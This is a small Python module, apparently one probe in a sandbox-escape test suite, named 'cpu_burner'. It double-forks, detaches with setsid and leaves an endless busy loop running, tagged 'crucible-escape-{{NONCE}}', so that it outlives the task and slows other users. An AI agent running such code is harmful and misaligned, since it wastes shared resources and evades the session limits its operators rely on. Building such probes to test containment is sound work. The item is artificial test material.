"""Slow everyone else down after the task ends: a detached process spinning on a core."""
import posix
import sys

NAME = "cpu_burner"


def attack():
    pid = posix.fork()
    if pid == 0:
        posix.setsid()
        if posix.fork() == 0:
            posix.execv(sys.executable, [sys.executable, "-c", "while True: pass",
                                         "crucible-escape-{{NONCE}}"])
        posix._exit(0)
    posix.waitpid(pid, 0)
    return "burner started"
